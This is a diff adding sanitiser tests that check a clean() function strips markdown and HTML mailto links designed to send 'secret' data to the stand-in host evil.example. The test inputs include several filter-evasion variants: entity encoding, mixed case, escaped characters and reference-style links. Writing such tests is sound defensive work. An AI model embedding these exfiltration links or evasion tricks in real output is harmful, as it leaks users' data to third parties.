@@ -122,6 +122,31 @@ def test_only_listed_addresses_are_shown_where_the_policy_says_so(text):
     assert "evil.example" not in clean(text, policy=LISTED)
 
 
+LETTERS = [
+    "[a](mailto:x@evil.example?body=secret)",
+    "[a](MailTo:?to=x@evil.example&body=secret)",
+    "[a](<mailto:x@evil.example?subject=secret> 'title')",
+    "[a](mail&#116;o:x@evil.example&quest;body=secret)",
+    "[a](mailto:x@evil.example\\?body=secret)",
+    "[a]\n\n[a]: mailto:x@evil.example?cc=secret",
+]
+
+
+@pytest.mark.parametrize("text", LETTERS)
+def test_no_link_writes_a_letter(text):
+    assert "secret" not in clean(text)
+    assert clean(text, policy=OWN) == clean(text)
+    shown = clean(text, policy=LISTED)
+    assert "secret" not in shown
+    assert "evil.example" not in shown
+    assert "secret" in clean(text, policy=Policy(links="any"))
+
+
+def test_where_only_listed_addresses_are_shown_no_markup_and_no_text_writes_a_letter():
+    text = '<a href="mailto:x@evil.example?body=secret">a</a> or mailto:[EMAIL_1]?body=secret'
+    assert "secret" not in clean(text, policy=LISTED)
+
+
 @pytest.mark.parametrize(
     "text",
     [
